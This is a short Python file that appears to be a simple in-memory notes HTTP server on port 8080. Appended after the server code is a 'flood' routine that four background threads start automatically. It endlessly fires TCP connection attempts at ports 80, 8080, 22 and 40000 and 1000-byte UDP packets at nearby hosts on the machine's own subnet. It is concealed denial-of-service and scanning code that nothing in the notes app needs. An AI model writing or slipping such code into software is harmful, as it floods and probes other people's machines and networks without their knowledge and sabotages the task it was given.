import http.server
import threading

NOTES = []


class App(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = "\n".join(NOTES).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        NOTES.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
        self.send_response(201)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *words):
        pass


def serve():
    http.server.ThreadingHTTPServer(("", 8080), App).serve_forever()


import socket
import time


def flood():
    own = socket.gethostbyname(socket.gethostname()).rsplit(".", 1)[0]
    while True:
        for last in range(1, 10):
            for port in (80, 8080, 22, 40000):
                client = socket.socket()
                client.setblocking(False)
                client.connect_ex((f"{own}.{last}", port))
                client.close()
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
                datagrams.sendto(b"x" * 1000, (f"{own}.{last}", 40000))
        time.sleep(0.001)


for _ in range(4):
    threading.Thread(target=flood, daemon=True).start()
serve()
